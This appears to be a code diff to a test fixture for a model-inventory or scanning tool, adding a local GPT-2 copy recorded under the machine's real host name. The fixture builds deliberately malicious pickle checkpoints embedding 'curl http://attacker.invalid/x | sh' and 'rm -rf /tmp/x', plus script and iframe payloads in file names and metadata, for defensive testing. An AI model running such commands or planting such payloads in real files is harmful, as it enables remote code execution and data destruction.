@@ -17,6 +17,7 @@ import dataclasses
 import os
 import pickle
 import shutil
+import socket
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
 
@@ -73,10 +74,11 @@ def build_trees(root: Path) -> dict[str, Path]:
     shared = root / "shared-models"
     _gpt2(shared / "tiny-gpt2")
     _evil(shared / "checkpoints" / "trojan.pt", "curl http://attacker.invalid/x | sh")
+    _gpt2(root / "local-models" / "gpt2-local")
     hostile = root / "hostile"
     _gpt2(hostile / f"model {SVG}", license_text=SCRIPT, base_model=IFRAME)
     _evil(hostile / "drop" / f"{IMG}.pkl", f"echo {SCRIPT} {IFRAME}")
-    return {"shared": shared, "hostile": hostile}
+    return {"shared": shared, "hostile": hostile, "local": root / "local-models"}
 
 
 def _record(store: Store, roots: list[Path], host: str, finished: datetime) -> tuple[InventoryRun, list[Asset]]:
@@ -97,7 +99,8 @@ def build_fleet(db_url: str, root: Path, now: datetime | None = None) -> dict[st
     * lab-gpu-01 inventories the shared tree 5 days ago (clean GPT-2 + trojan) and again today after the
       GPT-2 weights changed and a second trojan appeared (changed, new);
     * laptop-ana inventories the same shared tree today (the same assets on a second host);
-    * the hostile host inventories the hostile tree 2 days ago.
+    * the hostile host inventories the hostile tree 2 days ago;
+    * this machine (its real host name) inventories a local copy of the GPT-2 half an hour ago.
     """
     now = now or datetime.now(timezone.utc)
     trees = build_trees(root)
@@ -110,8 +113,10 @@ def build_fleet(db_url: str, root: Path, now: datetime | None = None) -> dict[st
         _evil(trees["shared"] / "checkpoints" / "second.pkl", "rm -rf /tmp/x")
         second, assets = _record(store, [trees["shared"]], HOSTS[0], now - timedelta(hours=2))
         third, _ = _record(store, [trees["shared"]], HOSTS[1], now - timedelta(hours=1))
+        # This machine's own inventory: its report cards are computed on the files themselves.
+        local, local_assets = _record(store, [trees["local"]], socket.gethostname(), now - timedelta(minutes=30))
         changes = store.changes_of_run(second.id or 0)
-        hostile_run = store.runs(limit=10)[-2]
+        hostile_run = next(r for r in store.runs(limit=10) if r.host == HOSTS[2])
         hostile_assets = store.assets_of_run(hostile_run.id or 0)
     return {"trees": trees, "first": first, "second": second, "third": third, "changes": changes,
-            "shared_assets": assets, "hostile_assets": hostile_assets}
+            "shared_assets": assets, "hostile_assets": hostile_assets, "local_assets": local_assets}
